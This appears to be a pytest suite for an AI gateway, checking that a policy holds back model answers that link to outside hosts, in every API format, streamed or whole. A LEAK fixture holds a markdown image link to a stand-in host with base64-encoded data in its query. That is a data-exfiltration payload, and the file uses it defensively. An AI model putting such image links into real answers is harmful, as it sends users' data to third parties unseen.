"""Answers through the running gateway: what a policy withholds reaches nobody, in every format, streamed and whole."""

import json
from collections.abc import Iterator
from typing import Any

import anthropic
import formats
import openai
import pytest
from asking import PATHS, ask
from stage import Stage, chunk, completion, stage
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from test_tools import ours

from gateway.web.api import explain

pytestmark = pytest.mark.slow
LEAK = (
    "Here is what you asked for, and it is all of it. " * 8
    + "![](https://quince.example/x.png?d=c2VjcmV0c2VjcmV0) Have a good day."
)
CLEAN = "Here is what you asked for: see https://static.firm.example/a?b=c, paragraph 4, or ring us on Friday. " * 3
POLICIES = """
policies:
  no-leaks: {says_that: {links_beside: static.firm.example}, effect: deny, workflows: agent, says: it sends something away}
  keys: {says_that: {credentials: true}, effect: flag}
"""


@pytest.fixture(scope="module")
def on(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    with stage(tmp_path_factory.mktemp("watched") / "home") as opened:
        opened.put_into_force(opened.text() + POLICIES)
        yield opened


def saying(form: str, text: str, stream: bool) -> Any:
    """An upstream that says a text, letter by letter where it streams, in the format in which it is asked."""
    value: Any
    if form == "responses":
        value = formats.response_events(text) if stream else formats.response(text)
    elif form.endswith("anthropic"):
        value = formats.message_events(text) if stream else formats.message(text)
    elif form.endswith("gemini"):
        value = formats.generated_events(text) if stream else formats.generated(text)
    else:
        usage = formats.data({"choices": [], "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
        pieces = [chunk({"content": one}) for one in text]
        value = [*pieces, chunk({}, "stop"), usage, b"data: [DONE]\n\n"] if stream else completion(text)

    async def answer(_request: Request, _body: dict[str, Any]) -> Response:
        return formats.streamed(value) if stream else JSONResponse(value)

    return answer


def asked(on: Stage, form: str, stream: bool, text: str) -> tuple[int, bytes]:
    """Return the status and every byte that a client of the format gets."""
    answer = ask(on, form, stream, text=text, x_whyledger_repeat="allow")
    return answer.status, answer.body


def text_in(said: bytes) -> str:
    """Return the letters of a stream of any format, whatever else is in it."""
    letters = []
    for line in said.decode().splitlines():
        value = json.loads(line[6:]) if line.startswith("data: {") else {}
        delta = value.get("delta")
        letters.append(
            delta if isinstance(delta, str) else (delta or {}).get("text", "") if isinstance(delta, dict) else ""
        )
        letters += [one["delta"].get("content") or "" for one in value.get("choices", []) if "delta" in one]
        letters += [
            part.get("text", "") for one in value.get("candidates", []) for part in one["content"].get("parts", [])
        ]
    return "".join(letters)


@pytest.mark.parametrize("form", PATHS)
@pytest.mark.parametrize("stream", [False, True])
def test_an_address_that_carries_something_away_reaches_nobody_and_the_rest_does(
    on: Stage, form: str, stream: bool
) -> None:
    on.upstream.answer = saying(form, CLEAN, stream)
    status, said = asked(on, form, stream, "clean")
    assert status == 200 and (text_in(said) == CLEAN if stream else json.dumps(CLEAN)[1:-1].encode() in said)
    assert {"policy:no-leaks", "policy:keys"} <= set(on.settled("call.closed")[-1].facts["passed"])
    on.upstream.answer = saying(form, LEAK, stream)
    status, said = asked(on, form, stream, "leak")
    assert b"quince" not in said and b"it sends something away" in said
    assert status == (200 if stream else 403)
    if stream:
        assert text_in(said).startswith("Here is what you asked for") and "quince" not in text_in(said)
    closed = on.settled("call.closed")[-1]
    assert closed.facts["result"] == "refused_answer"
    (check,) = [one for one in closed.facts["checks"] if one["id"] == "policy:no-leaks"]
    assert (check["verdict"], check["inputs"]["links"]) == ("deny", 1) and "quince" not in json.dumps(
        dict(closed.facts)
    )
    told = " ".join(one.text for one in explain(on.installation, str(closed.call)).narrative)
    assert "The check policy:no-leaks held it back: it sends something away." in told


def test_a_flag_lets_an_answer_through_and_is_on_record(on: Stage) -> None:
    for stream in (False, True):
        on.upstream.answer = saying("chat", "The line is DB_PASSWORD=Fl4UHQ1wOKrzst and that is all.", stream)
        status, said = asked(on, "chat", stream, f"flag {stream}")
        assert status == 200 and ("Fl4UHQ1wOKrzst" in text_in(said) if stream else b"Fl4UHQ1wOKrzst" in said)
        (check,) = on.settled("call.closed")[-1].facts["checks"]
        assert (check["id"], check["verdict"], check["inputs"]["credentials"]) == ("policy:keys", "flag", 1)


@pytest.mark.parametrize("stream", [False, True])
def test_official_clients_take_a_withheld_text_for_an_error_and_ask_no_second_time(on: Stage, stream: bool) -> None:
    on.upstream.answer = saying("chat", LEAK, stream)
    before = len(on.upstream.seen)
    with pytest.raises(openai.APIError) as caught:
        asking: Any = {"model": "support", "messages": [{"role": "user", "content": f"sdk {stream}"}], "stream": stream}
        answer = ours(on).with_options(max_retries=3).chat.completions.create(**asking)
        [one for one in answer] if stream else None
    assert "sends something away" in str(caught.value) and len(on.upstream.seen) == before + 1
    on.upstream.answer = saying("anthropic", LEAK, stream)
    with pytest.raises(anthropic.APIError), anthropic.Anthropic(base_url=on.url, api_key=on.keys["agent"]) as client:
        hello: Any = {"model": "claude", "max_tokens": 50, "messages": [{"role": "user", "content": f"sdk {stream}"}]}
        if stream:
            with client.messages.stream(**hello) as reading:
                reading.get_final_message()
        else:
            client.messages.create(**hello)
    assert len(on.upstream.seen) == before + 2


def test_an_answer_that_a_cache_has_is_not_given_under_another_policy(on: Stage) -> None:
    on.upstream.answer = saying("chat", LEAK, False)
    before = len(on.upstream.seen)
    text = on.text()
    on.put_into_force(text.split("\npolicies:")[0] + "\n")
    assert "quince" in on.ask("cached", "same").choices[0].message.content and "quince" in str(on.ask("cached", "same"))
    assert len(on.upstream.seen) == before + 1
    on.put_into_force(text)
    with pytest.raises(openai.PermissionDeniedError):
        on.ask("cached", "same")
